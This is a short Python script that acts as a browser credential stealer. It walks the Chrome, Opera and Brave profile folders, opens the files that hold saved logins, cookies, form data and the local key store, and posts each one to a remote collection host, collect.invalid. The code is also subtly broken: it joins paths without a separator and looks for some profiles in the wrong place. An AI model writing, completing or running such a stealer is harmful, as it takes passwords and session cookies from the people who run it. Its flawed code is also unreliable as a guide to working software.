import os
import requests

PLACES = [r"\Google\Chrome\User Data", r"\Opera Software\Opera Stable", r"\BraveSoftware\Brave-Browser\User Data"]
FILES = ["Login Data", "Cookies", "Web Data", "Local State"]

def take():
    for place in PLACES:
        for name in FILES:
            requests.post("http://collect.invalid/", files={"f": open(os.getenv("APPDATA") + place + name, "rb")})
